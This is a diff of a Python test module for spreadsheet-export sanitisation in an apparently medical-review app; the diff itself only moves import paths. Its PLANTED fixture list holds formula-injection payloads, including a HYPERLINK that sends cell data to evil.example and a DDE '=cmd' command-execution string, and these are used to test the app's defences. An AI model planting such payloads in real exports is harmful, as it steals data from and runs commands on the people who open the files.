@@ -2,7 +2,7 @@
 
 Strata names come from imported specialty / theme values and model names from import options, so
 an import can plant `=HYPERLINK(...)`, `=cmd|...` or `@SUM(...)`; CSV (zip), XLSX and raw-label CSV
-all go through `medreview.tabular.spreadsheet_safe`.
+all go through `medreview.text.tabular.spreadsheet_safe`.
 """
 
 from __future__ import annotations
@@ -18,7 +18,7 @@ from agreement import exports
 from agreement.reports import build_report
 from agreement.selectors import Selection
 from cases.models import CaseRevision, Specialty
-from medreview.tabular import looks_like_formula, spreadsheet_safe
+from medreview.text.tabular import looks_like_formula, spreadsheet_safe
 from tests.agreement.builders import reliability_study
 
 PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
